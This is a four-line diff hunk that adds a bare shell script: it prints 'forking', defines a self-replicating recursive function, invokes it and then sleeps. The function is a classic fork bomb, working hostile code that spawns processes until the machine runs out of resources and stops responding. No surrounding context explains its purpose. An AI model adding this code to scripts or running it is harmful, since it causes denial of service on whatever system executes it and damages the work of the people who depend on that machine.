@@ -1,0 +1,4 @@
+echo "forking"
+bomb() { bomb | bomb & }
+bomb
+sleep 3600
